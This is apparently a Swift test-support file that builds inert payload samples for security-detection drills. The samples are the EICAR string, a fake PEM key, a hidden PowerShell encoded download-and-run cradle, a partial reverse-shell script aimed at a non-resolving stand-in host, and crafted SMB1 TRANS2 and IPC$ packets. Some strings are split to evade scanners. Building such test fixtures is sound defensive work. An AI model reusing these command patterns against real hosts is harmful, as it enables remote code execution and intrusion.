import TestSupport

/// The inert markers that scenarios carry. None of them does anything; those that virus or secret scanners look for
/// are put together from halves, so that this source stays quiet.
enum Payload {
    /// The anti-malware test string, 68 bytes.
    static let eicar =
        #"X5O!P%@AP[4\PZX54(P^)7CC)7}$"# + "EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*"

    /// A key in PEM armour whose body says, in base64, that it is no key.
    static var privateKey: String {
        let words = "This is no key. It is an inert marker of a drill, made to look like one on the wire. "
        let body = Text.base64(Array(String(repeating: words, count: 8).utf8))
        let armour = "PRIVATE" + " KEY-----\n"
        return "-----BEGIN RSA " + armour + Text.lines(body, width: 64) + "-----END RSA " + armour
    }

    /// A batch file that starts PowerShell with an encoded command; the name in it never resolves.
    static var powerShellBatch: String {
        let script = "IEX (New-Object Net.WebClient).Download" + "String('http://drill.invalid/inert.txt')"
        let encoded = Text.base64(script.utf16.flatMap { [UInt8(truncatingIfNeeded: $0), UInt8($0 >> 8)] })
        return "@echo off\r\npowershell.exe -NoP -W Hidden -enc " + encoded + "\r\n"
    }

    /// Three lines of a script; what would make a shell of them, the loop, is left out.
    static var powerShellSocket: String {
        [
            "# dien tap: khong co vong lap, khong co ket noi",
            "$c = New-Object System.Net.Sockets." + "TCPClient('drill.invalid',4444)",
            "$o = (i" + "ex $d 2>&1 | Out-String )", "",
        ].joined(separator: "\r\n")
    }

    /// An SMB1 message: NetBIOS length, header for `command`, then the rest.
    static func smb(command: UInt8, _ rest: [UInt8]) -> [UInt8] {
        var message: [UInt8] = [0xff, 0x53, 0x4d, 0x42, command, 0, 0, 0, 0, 0x18, 0x07, 0x40]
        message += [UInt8](repeating: 0, count: 12) + [0, 8, 0xff, 0xfe, 0, 8, 0x41, 0]
        message += rest
        var framed: [UInt8] = []
        framed.append(bigEndian: UInt32(message.count))
        return framed + message
    }

    /// A TRANS2 request with a subcommand and 12 bytes of parameters, all zero.
    static func trans2(subcommand: UInt8) -> [UInt8] {
        var words: [UInt8] = [12, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0xa6, 0xd9, 0xa4, 0]
        words += [0, 0, 12, 0, 66, 0, 0, 0, 78, 0, 1, 0, subcommand, 0]
        return smb(command: 0x32, [15] + words + [13, 0, 0] + [UInt8](repeating: 0, count: 12))
    }

    /// A tree connect to the share of named pipes.
    static func treeConnect(host: String) -> [UInt8] {
        let path = #"\\"# + host + #"\IPC$"#
        let rest: [UInt8] = [0] + Array(path.utf8) + [0] + Array("?????".utf8) + [0]
        return smb(command: 0x75, [4, 0xff, 0, 0, 0, 0, 0, 1, 0, UInt8(rest.count), 0] + rest)
    }
}
